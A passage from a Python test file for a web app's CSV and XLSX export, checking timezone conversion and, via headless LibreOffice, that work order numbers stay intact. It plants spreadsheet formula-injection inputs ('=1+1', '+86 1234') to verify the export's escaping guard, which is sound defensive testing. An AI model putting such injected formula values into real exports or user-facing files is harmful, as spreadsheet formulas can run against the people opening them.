                         called_at=datetime(2024, 12, 2, 17, 59, 59, tzinfo=timezone.utc))
    db.session.commit()
    by_id = {int(row[0]): row for row in read_csv(download(admin_browser))[1:]}
    assert by_id[summer.id][8] == "2024-07-01 08:00"  # EDT, UTC-4
    assert by_id[winter.id][8] == "2024-12-02 07:00"  # EST, UTC-5
    assert by_id[winter.id][COL["called_at"]] == "2024-12-02 12:59"
    sheet = read_xlsx(download(admin_browser, format="xlsx"))
    times = {row[0]: row[8] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert times[summer.id] == datetime(2024, 7, 1, 8, 0)
    assert times[winter.id] == datetime(2024, 12, 2, 7, 0)


# --- the CSV in a real spreadsheet ----------------------------------------------------------

@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_opens_work_order_numbers_intact(admin_browser, db, data, tmp_path):
    numbers = ["202411180000123456", "0012345", "2024-11", "GD-2024-0001"]
    issues = [called_back(data.east, work_order_no=number) for number in numbers]
    merchant = f.MerchantFactory(circle=data.east, shop_name="=1+1")
    tricky = called_back(data.east, merchant=merchant, work_order_no="+86 1234")
    db.session.commit()
    source = tmp_path / "export.csv"
    source.write_bytes(download(admin_browser).get_data())
    # 44,34,76: comma-separated, double-quoted, UTF-8 (the BOM alone does not tell
    # LibreOffice); a profile of its own so that parallel runs do not share one.
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
         str(source)],
        check=True, capture_output=True, timeout=120)
    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx", data_only=True).active
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    for issue, number in zip(issues, numbers, strict=True):
        assert rows[issue.id][COL["work_order_no"]] == number
    # Text that is not a plain code keeps the formula guard, and nothing was run.
    assert rows[tricky.id][COL["work_order_no"]] == "'+86 1234"
    assert rows[tricky.id][COL["shop_name"]] == "'=1+1"
    assert rows[tricky.id][COL["circle"]] == data.east.name
